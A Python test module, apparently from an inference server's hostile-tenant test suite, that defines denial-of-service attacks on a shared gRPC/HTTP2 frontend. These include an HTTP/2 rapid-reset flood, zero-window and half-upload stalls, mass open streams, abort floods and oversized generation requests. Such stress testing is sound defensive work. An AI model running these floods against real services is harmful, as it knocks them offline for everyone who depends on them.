"""What a hostile tenant may do to a frontend that serves others too.

An attack gets the frontend's address and a token, and goes on until its event is set.
"""

import itertools
import select
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

import grpc
import hpack
from h2.errors import ErrorCodes
from hyperframe.frame import DataFrame, Frame, HeadersFrame, PingFrame, RstStreamFrame

from pagewire.v1 import generation_pb2, generation_pb2_grpc, pooling_pb2, pooling_pb2_grpc
from tests.hostile.test_frames import METHOD, Http2, framed, headers

PROMPT = "The quick brown fox jumps over the lazy dog. " * 4

Attack = Callable[[str, str, threading.Event], None]


def calls(
    address: str, token: str, stop: threading.Event, requests: Iterator[generation_pb2.GenerateRequest]
) -> None:
    """Streams of these requests, 64 at a time in each thread's channel."""
    metadata = (("authorization", f"Bearer {token}"),)
    with grpc.insecure_channel(address) as channel:
        stub, open_calls = generation_pb2_grpc.GenerationServiceStub(channel), []
        while not stop.is_set():
            open_calls.append(stub.GenerateUnary.future(next(requests), metadata=metadata, timeout=60))
            open_calls = [call for call in open_calls if not call.done()]
            if len(open_calls) >= 64:
                time.sleep(0.01)
        for call in open_calls:
            call.cancel()


def request(**changes: object) -> generation_pb2.GenerateRequest:
    """A request of the tenant's."""
    fields: dict[str, object] = {
        "prompt": {"text": PROMPT},
        "stopping": {"max_tokens": 64, "ignore_eos": True},
    }
    return generation_pb2.GenerateRequest(**(fields | changes))  # type: ignore[arg-type]


def generating(**changes: object) -> Attack:
    """An attack by such requests."""
    return lambda address, token, stop: calls(address, token, stop, itertools.repeat(request(**changes)))


def half_uploads(address: str, token: str, stop: threading.Event) -> None:
    """Messages that stop 1 KiB before their end."""
    body, bearer = framed(bytes(63 << 10), length=64 << 10), f"Bearer {token}"
    raw(address, stop, lambda http: http.call(body, end=False, authorization=bearer))


def zero_windows(address: str, token: str, stop: threading.Event) -> None:
    """Answers for which there is never room."""
    body, bearer = framed(request().SerializeToString()), f"Bearer {token}"
    raw(address, stop, lambda http: http.call(body, authorization=bearer), window=0)


def ten_thousand(address: str, token: str, stop: threading.Event) -> None:
    """Long streams on a few connections, until 10,000 calls are open or refused, again and again."""
    message = request(stopping={"max_tokens": 900, "ignore_eos": True})
    body, bearer = framed(message.SerializeToString()), f"Bearer {token}"
    raw(address, stop, lambda http: http.call(body, authorization=bearer), most=10_000)


def giant_continuations(address: str, token: str, stop: threading.Event) -> None:
    """Four million tokens of output that no server has made."""
    generating(
        sampling={"seed": 1, "temperature": 1},
        output={"token_ids": True},
        continuation={"sequences": [{"token_ids": [7] * 4_000_000}]},
    )(address, token, stop)


def left_behind(address: str, token: str, stop: threading.Event) -> None:
    """Calls with ids of their own that are cancelled once they run: the core keeps them for the grace."""
    metadata, name = (("authorization", f"Bearer {token}"),), threading.current_thread().name
    with grpc.insecure_channel(address) as channel:
        stub = generation_pb2_grpc.GenerationServiceStub(channel)
        for turn in itertools.count():
            if stop.is_set():
                return
            message = request(request_id=f"{name}-{turn}", stopping={"max_tokens": 900, "ignore_eos": True})
            call = stub.Generate(message, metadata=metadata, timeout=30)
            with suppress(grpc.RpcError, StopIteration):
                next(call)
            call.cancel()


def resets(address: str, token: str, stop: threading.Event) -> None:
    """Whole requests, each with RST_STREAM behind it, as fast as it goes."""
    floods_of_resets(address, METHOD, framed(request().SerializeToString()), stop, f"Bearer {token}")


def floods_of_resets(
    address: str,
    path: str,
    body: bytes,
    stop: threading.Event,
    authorization: str = "",
    source: str = "",
) -> None:
    """The same of any method. body: a message of it, framed. source: where connections come from."""
    named = {"authorization": authorization} if authorization else {}
    fields = headers(_path=path, **named)
    while not stop.is_set():
        with suppress(OSError), Http2(address, source) as http:
            streams, received, encoder = itertools.count(1, 2), bytearray(), hpack.Encoder()
            block = encoder.encode(fields)  # fills the server's table: all further blocks are alike
            while not stop.is_set():
                burst = _answers(received)
                for stream in itertools.islice(streams, 50):
                    burst += HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
                    burst += DataFrame(stream, body).serialize()
                    burst += RstStreamFrame(stream, ErrorCodes.CANCEL).serialize()
                    block = encoder.encode(fields)
                _send(http.socket, burst, received, stop)


def _send(connection: socket.socket, burst: bytearray, received: bytearray, stop: threading.Event) -> None:
    """Sends a burst unless the attack is told to stop meanwhile, and reads: gRPC reads no more from a peer
    that does not."""
    left = memoryview(burst)
    while left and not stop.is_set():
        readable, writable, _ = select.select((connection,), (connection,), (), 0.05)
        if readable:
            received += connection.recv(1 << 20)
        if writable:
            left = left[connection.send(left, socket.MSG_DONTWAIT) :]


def _answers(received: bytearray) -> bytearray:
    """Returns the answers to pings, without which gRPC closes the connection, and drops whole frames."""
    answers = bytearray()
    while len(received) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(bytes(received[:9])))
        if len(received) < 9 + length:
            break
        if isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            answers += PingFrame(0, bytes(received[9 : 9 + length]), flags=["ACK"]).serialize()
        del received[: 9 + length]
    return answers


def raw(
    address: str,
    stop: threading.Event,
    attack: Callable[[Http2], object],
    window: int = 65535,
    most: int = 90,
) -> None:
    """Repeats a step on a connection; after `most` it waits, and opens another one."""
    while not stop.is_set():
        with suppress(Exception), Http2(address) as http:  # the server may hang up
            http.state.update_settings({4: window})
            for _ in range(most):
                if stop.is_set():
                    return
                attack(http)
                http.flush()
            stop.wait(5.0)


def aborts(address: str, token: str, stop: threading.Event) -> None:
    """256 ids that no request has, again and again."""
    metadata = (("authorization", f"Bearer {token}"),)
    with grpc.insecure_channel(address) as channel:
        stub = generation_pb2_grpc.GenerationServiceStub(channel)
        for turn in itertools.count():
            if stop.is_set():
                return
            ids = [f"{turn}-{place}" for place in range(256)]
            with suppress(grpc.RpcError):
                stub.Abort(generation_pb2.AbortRequest(request_ids=ids), metadata=metadata, timeout=30)


def scoring(address: str, token: str, stop: threading.Event) -> None:
    """64 continuations of one prompt."""
    metadata, message = (
        (("authorization", f"Bearer {token}"),),
        pooling_pb2.ScoreContinuationsRequest(
            prompt={"text": PROMPT}, continuations=[f"answer {number}" for number in range(64)]
        ),
    )
    with grpc.insecure_channel(address) as channel:
        stub = pooling_pb2_grpc.PoolingServiceStub(channel)
        while not stop.is_set():
            with suppress(grpc.RpcError):
                stub.ScoreContinuations(message, metadata=metadata, timeout=30)


ATTACKS: dict[str, Attack] = {
    "streams": generating(),
    "10000 streams": ten_thousand,
    "left behind": left_behind,
    "half uploads": half_uploads,
    "zero windows": zero_windows,
    "resets": resets,
    "aborts": aborts,
    "priorities": generating(priority=-1000),
    "n = 8": generating(sampling={"n": 8}),
    "n = 32": generating(
        sampling={"n": 32}, stopping={"max_tokens": 900, "ignore_eos": True}
    ),  # long ones; refused under --max-sequences 16
    "n = 64": generating(sampling={"n": 64}),
    "beams": generating(sampling={"beam_search": {"width": 8}, "n": 1}),
    "continuations": generating(
        sampling={"seed": 1, "temperature": 1},
        stopping={"max_tokens": 900, "ignore_eos": True},
        output={"token_ids": True},
        continuation={"sequences": [{"token_ids": [7] * 800}]},
    ),
    "giant continuations": giant_continuations,
    "scoring": scoring,
}
